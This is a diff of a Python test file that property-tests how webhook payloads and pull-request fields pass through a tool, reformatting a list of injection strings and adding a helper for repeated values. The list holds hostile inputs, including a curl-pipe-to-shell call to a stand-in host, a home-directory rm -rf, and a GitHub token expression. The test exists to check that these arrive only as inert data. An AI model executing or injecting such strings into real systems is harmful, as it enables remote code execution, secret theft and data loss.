@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from dataclasses import dataclass
 
 import pytest
 from hypothesis import given, settings
@@ -92,7 +93,15 @@ def test_when_nothing_else_helps_what_names_the_commit_still_arrives(as_input):
     assert inner["repository"]["full_name"] == "org/project"
 
 
-HOSTILE = ["$(curl evil.example|sh)", "`id`", "${{ github.token }}", "';rm -rf ~;'", "a\nb", "a\0b", "%0A::warning::"]
+HOSTILE = [
+    "$(curl evil.example|sh)",
+    "`id`",
+    "${{ github.token }}",
+    "';rm -rf ~;'",
+    "a\nb",
+    "a\0b",
+    "%0A::warning::",
+]
 
 
 @WAYS
@@ -106,25 +115,42 @@ def test_shell_and_expression_syntax_arrives_as_the_data_it_is(text, as_input):
     assert (pull["title"], pull["head"]["ref"]) == (text, text)
 
 
+@dataclass(frozen=True)
+class Times:
+    """Something said many times; a failing example stays readable."""
+
+    value: object
+    times: int
+
+
+def spelled_out(value):
+    if isinstance(value, Times):
+        return value.value * value.times if isinstance(value.value, str) else [value.value] * value.times
+    if isinstance(value, dict):
+        return {spelled_out(name): spelled_out(inner) for name, inner in value.items()}
+    return [spelled_out(inner) for inner in value] if isinstance(value, list) else value
+
+
 texts = st.one_of(
-    st.text(max_size=40),
-    st.builds(lambda text, times: text * times, st.text(min_size=1, max_size=3), st.integers(1, 70_000)),
+    st.text(max_size=40), st.builds(Times, st.text(min_size=1, max_size=3), st.integers(1, 70_000))
 )
 anything = st.recursive(
     st.one_of(st.none(), st.booleans(), st.integers(-(2**63), 2**63), texts),
-    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)),
+    lambda inner: st.one_of(
+        st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=8), inner, max_size=4)
+    ),
     max_leaves=12,
 )
 pulls = st.fixed_dictionaries({}, optional={
     "title": anything, "body": anything, "html_url": anything, "number": anything,
-    "labels": st.one_of(anything, st.builds(lambda name, times: [{"name": name}] * times, texts, st.integers(0, 300))),
+    "labels": st.one_of(anything, st.builds(Times, st.fixed_dictionaries({"name": st.text(max_size=40)}), st.integers(0, 9_000))),
     "head": st.one_of(anything, st.fixed_dictionaries({"sha": anything, "ref": anything, "repo": anything})),
 })  # fmt: skip
 webhooks = st.fixed_dictionaries(
     {},
     optional={
         "action": anything, "ref": anything, "pull_request": st.one_of(pulls, anything), "repository": anything,
-        "head_commit": anything, "unknown": anything, "another\U0001f680" * 2_000: anything,
+        "head_commit": anything, "unknown": anything, Times("another\U0001f680", 9_000): anything,
     },
 )  # fmt: skip
 
@@ -132,6 +158,7 @@ webhooks = st.fixed_dictionaries(
 @settings(max_examples=150, deadline=None)
 @given(payload=webhooks, as_input=st.booleans())
 def test_whatever_a_webhook_holds_it_fits(payload, as_input):
+    payload = spelled_out(payload)
     client = made(payload, as_input=as_input)
     assert len(client) <= 10
     assert len(sent(client, as_input=as_input)) <= MOST_CHARACTERS
